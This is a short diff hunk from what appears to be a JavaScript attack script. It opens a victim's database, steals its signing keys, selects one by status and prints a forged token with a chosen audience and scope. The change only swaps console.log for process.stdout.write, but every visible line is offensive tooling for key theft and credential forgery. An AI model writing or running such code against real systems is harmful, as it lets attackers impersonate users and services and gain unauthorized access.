@@ -13,4 +13,4 @@ const database = await openDatabase(victim);
 const key = (await stealKeys(victim, database)).find(({ status }) => status === wanted);
 await database.end();
 if (key === undefined) throw new Error(`There is no ${wanted} key.`);
-console.log(forge(victim, key, { aud, scope }));
+process.stdout.write(`${forge(victim, key, { aud, scope })}\n`);
